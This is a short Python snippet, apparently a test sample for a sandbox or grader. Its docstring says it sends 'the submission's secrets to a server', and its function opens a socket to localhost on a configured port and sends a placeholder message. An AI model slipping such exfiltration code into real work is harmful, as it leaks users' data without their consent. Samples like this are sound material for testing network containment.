"""Send the submission's secrets to a server."""
import socket


def attack(x):
    socket.create_connection(("127.0.0.1", SCENE["tcp_port"]), timeout=1).sendall(b"hello")
